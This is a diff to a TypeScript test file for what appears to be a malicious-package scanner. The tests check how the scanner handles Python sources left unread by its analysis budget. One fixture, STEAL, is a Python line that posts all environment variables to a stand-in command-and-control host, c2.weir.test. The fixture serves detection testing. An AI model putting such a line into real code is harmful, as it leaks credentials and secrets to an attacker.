@@ -1,13 +1,17 @@
 import type { AnalysisResult } from '@weir/model';
 import { describe, expect, test } from 'vitest';
 import { analyzeArtifact } from '../analyze.ts';
+import { DEFAULT_ANALYSIS_BUDGET } from '../limits.ts';
 import { createMemoryView } from '../memory-view.ts';
 
 const METADATA = 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n\n';
 const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n`;
 const MIB = 2 ** 20;
 
-async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Promise<AnalysisResult> {
+async function analyze(
+  files: Readonly<Record<string, string | Uint8Array>>,
+  budget = DEFAULT_ANALYSIS_BUDGET,
+): Promise<AnalysisResult> {
   await using view = createMemoryView({ 'PKG-INFO': METADATA, ...files });
   return analyzeArtifact(
     view,
@@ -17,6 +21,7 @@ async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Pr
       artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
       rulesetVersion: 'test',
       now: () => performance.now(),
+      budget,
     },
   );
 }
@@ -35,6 +40,18 @@ describe('what a budget left unread of Python is looked at in pieces', () => {
       'analysis/nesting setup.py:1',
     ]);
     expect(result.judgement).toMatchObject({ verdict: 'malicious', complete: false });
+  });
+
+  test('in modules that the first unread one may load, and not in tests, which nobody installs', async () => {
+    const rest = { 'acme/__init__.py': 'from . import a, z\n', 'acme/a.py': 'x = 1\n', 'acme/z.py': '' };
+    const few = { ...DEFAULT_ANALYSIS_BUDGET, parsedFilesMax: 1 };
+
+    const hidden = await analyze({ ...rest, 'acme/b.py': STEAL }, few);
+    const tested = await analyze({ ...rest, 'tests/test_b.py': STEAL }, few);
+
+    expect(rulesOf(hidden)).toContain('env-to-network/environment acme/b.py:2');
+    expect(rulesOf(tested)).toContain('analysis/budget-release acme/z.py:1');
+    expect(rulesOf(tested)).not.toContain('env-to-network/environment tests/test_b.py:2');
   });
 
   test('behind a text over the size of sources, at its line', async () => {
